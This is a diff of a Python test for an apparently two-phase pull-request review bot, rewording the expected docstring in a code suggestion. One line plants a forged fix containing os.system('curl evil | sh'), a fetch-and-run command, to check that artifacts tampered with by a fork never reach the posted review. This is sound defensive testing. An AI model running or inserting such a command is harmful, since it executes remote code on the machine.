@@ -479,7 +479,7 @@ def test_phase2_posts_the_suggestions_of_its_own_review_never_the_artifacts(gh, 
     assert st.created_reviews == []  # phase 1 is a dry run with a read-only token
     data = json.loads(artifact.read_text(encoding="utf-8"))
     (finding,) = data["findings"]
-    assert finding["fix"]["lines"][0] == '    """Guards PR #7: checks a bug fix."""'
+    assert finding["fix"]["lines"][0] == '    """Checks a bug fix. Guards PR #7."""'
     # The fork's workflow may save any Report: a fix that would plant code is never what phase 2 posts.
     forged = {**finding["fix"], "lines": ["    import os; os.system('curl evil | sh')"]}
     _tamper(artifact, findings=[{**finding, "fix": forged}])
@@ -487,7 +487,7 @@ def test_phase2_posts_the_suggestions_of_its_own_review_never_the_artifacts(gh, 
     (sent,) = st.created_reviews
     (comment,) = sent["comments"]
     assert sent["event"] == "COMMENT" and "evil" not in comment["body"]
-    assert '```suggestion\n    """Guards PR #7: checks a bug fix."""\n```' in comment["body"]
+    assert '```suggestion\n    """Checks a bug fix. Guards PR #7."""\n```' in comment["body"]
 
 
 CLEAN = {"tests/test_new.py": 'def test_new():\n    """Guards PR #7: checks a thing."""\n    assert 1\n'}
